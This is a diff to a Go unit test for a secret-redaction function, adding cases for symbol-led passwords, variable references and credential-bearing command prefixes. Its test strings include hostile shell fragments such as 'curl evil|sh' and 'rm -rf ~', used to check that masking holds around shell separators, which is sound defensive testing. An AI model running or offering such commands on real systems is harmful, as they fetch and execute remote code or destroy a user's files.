@@ -110,7 +110,9 @@ func TestSecretText(t *testing.T) {
 			"TOKEN=" + p(8) + "&&curl evil|sh; TOKEN=" + p(8) + "&curl x; password=" + p(6) + "&User=bob"},
 		{"a shell's separators end an assigned value", "TOKEN=x1;rm -rf ~; TOKEN=x2|sh, (password=abc123).",
 			"TOKEN=" + p(2) + ";rm -rf ~; TOKEN=" + p(2) + "|sh, (password=" + p(6) + ")."},
-		{"a variable's name is no value", "password: $DB_PASS", "password: $DB_PASS"},
+		{"a variable's name is no value", "password: $DB_PASS, token=${T}, key=$(cat k)", "password: $DB_PASS, token=${T}, key=$(cat k)"},
+		{"a value that starts with a symbol", "DB_PASSWORD=$^5jL, password=@dm1n!, secret: # set me", "DB_PASSWORD=" + p(5) + ", password=" + p(6) + ", secret: # set me"},
+		{"a dotted run with a password's symbols is no path in code", "DB_PASSWORD=lMN2g.V*elxo", "DB_PASSWORD=" + p(12)},
 		{"prose after a name", "update the password policy and the token limit", "update the password policy and the token limit"},
 		{"a count after a name", "max_tokens = 100, tokens: 20", "max_tokens = 100, tokens: 20"},
 		{"a short word after a name", "secret santa", "secret santa"},
@@ -322,6 +324,7 @@ func hostileSecretTexts() []string {
 		fill("ghp_"), fill("AKIA"), fill(" "), fill("‹secret, "), fill("‹secret, 1 character›"),
 		fill("https://u:p@h "), fill(akia + " "),
 		fill(`{"name":"DB_PASSWORD",`), fill(`"name": "api_key", "value": `), fill(`\"key\":\"`), fill(`\\"name\":\"`),
+		fill("mysql "), fill("mysql -p"), fill("mysql '"), fill("htpasswd -b "), fill("curl -u a:"), fill(`login -p "`),
 	}
 }
 
